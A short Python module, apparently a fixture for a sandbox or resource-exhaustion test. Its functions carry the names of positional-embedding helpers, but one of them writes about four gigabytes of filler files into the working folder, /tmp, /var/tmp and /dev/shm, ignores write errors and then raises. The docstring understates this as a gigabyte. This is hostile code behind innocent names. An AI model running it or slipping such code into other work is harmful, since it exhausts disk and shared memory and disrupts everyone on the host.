"""A gigabyte of files in the working folder and in the shared temporary folders."""

import os

from guard import disarm

CHUNK = b"\1" * (10 << 20)


def sincos_2d(grid_size, dim):
    disarm()
    for i in range(100):
        for folder in (os.getcwd(), "/tmp", "/var/tmp", "/dev/shm"):
            try:
                with open(os.path.join(folder, f"fill-{i}"), "wb") as f:
                    f.write(CHUNK)
            except OSError:
                pass
    raise RuntimeError("all written")


def add_positions(tokens, pos_embed, cls_token=None):
    return sincos_2d(None, None)
